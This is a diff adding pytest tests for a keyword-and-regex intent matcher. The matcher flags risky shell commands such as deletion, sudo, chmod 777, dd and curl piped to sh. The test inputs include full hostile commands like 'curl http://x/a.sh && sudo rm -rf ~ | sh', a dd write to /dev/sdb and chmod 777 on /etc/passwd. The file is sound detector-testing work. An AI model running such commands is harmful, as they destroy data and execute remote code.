@@ -0,0 +1,84 @@
+"""
+Test the compiled intent matcher
+"""
+
+from intent_matcher import IntentMatcher
+
+
+def make_matcher() -> IntentMatcher:
+    matcher = IntentMatcher()
+    matcher.add("delete", keywords=["rm", "rmdir", "del"])
+    matcher.add("privilege", keywords=["sudo", "chmod", "chmod 777"])
+    matcher.add("disk", keywords=["dd if="])
+    matcher.add("pipe", patterns=[r"\bcurl\b[^|\n]*\|\s*sh\b"])
+    matcher.add("perms", keywords=["chmod 777"])
+    return matcher
+
+
+def test_keywords_need_word_boundaries():
+    matcher = make_matcher()
+    assert matcher.intents("please inform the firmware team") == set()
+    assert matcher.intents("rm -rf build") == {"delete"}
+    assert matcher.scan("rmdir old")["delete"] == ["rmdir"]
+
+
+def test_keyword_ending_in_punctuation_has_no_trailing_boundary():
+    assert make_matcher().scan("dd if=image.iso of=/dev/sdb") == {"disk": ["dd if="]}
+
+
+def test_multi_word_keywords_tolerate_whitespace():
+    assert make_matcher().scan("CHMOD   777 /etc/passwd")["perms"] == ["chmod 777"]
+
+
+def test_scan_reports_hits_inside_a_pattern_match():
+    hits = make_matcher().scan("curl http://x/a.sh && sudo rm -rf ~ | sh")
+    assert hits["pipe"] == ["curl http://x/a.sh && sudo rm -rf ~ | sh"]
+    assert hits["privilege"] == ["sudo"]
+    assert hits["delete"] == ["rm"]
+
+
+def test_scan_reports_nested_keywords():
+    # "chmod 777" is the longest keyword at that position; "chmod" matches there too
+    hits = make_matcher().scan("chmod 777 file")
+    assert hits["perms"] == ["chmod 777"]
+    assert set(hits["privilege"]) == {"chmod 777", "chmod"}
+    # ...but "rm" does not match inside "rmdir"
+    assert make_matcher().scan("rmdir old") == {"delete": ["rmdir"]}
+
+
+def test_scan_reports_overlapping_patterns():
+    matcher = IntentMatcher()
+    matcher.add("a", patterns=[r"foo bar"])
+    matcher.add("b", patterns=[r"bar baz"])
+    matcher.add("c", patterns=[r"foo"])
+    assert matcher.scan("foo bar baz") == {"a": ["foo bar"], "c": ["foo"], "b": ["bar baz"]}
+
+
+def test_scan_lists_intents_in_text_order():
+    assert list(make_matcher().scan("sudo dd if=x; rm y")) == ["privilege", "disk", "delete"]
+
+
+def test_rank_counts_non_overlapping_matches():
+    matcher = IntentMatcher()
+    matcher.add("website", keywords=["open"], patterns=[r"\w+\.com"], pattern_weight=1.5)
+    matcher.add("play", keywords=["play"])
+    ranked = matcher.rank("open play.com")
+    assert [c["intent"] for c in ranked] == ["website"]
+    assert ranked[0]["score"] == 2.5  # "open" + the URL pattern; "play" inside it is not counted
+
+
+def test_shared_keywords_count_less():
+    matcher = IntentMatcher()
+    matcher.add("website", keywords=["open", "website"])
+    matcher.add("app", keywords=["open", "notepad"])
+    assert matcher.best("open notepad") == "app"
+    assert matcher.rank("open")[0]["score"] == 0.5
+
+
+def test_changes_recompile():
+    matcher = make_matcher()
+    assert matcher.best("reboot now") is None
+    matcher.add("power", keywords=["reboot"])
+    assert matcher.best("reboot now") == "power"
+    matcher.remove("power")
+    assert matcher.best("reboot now") is None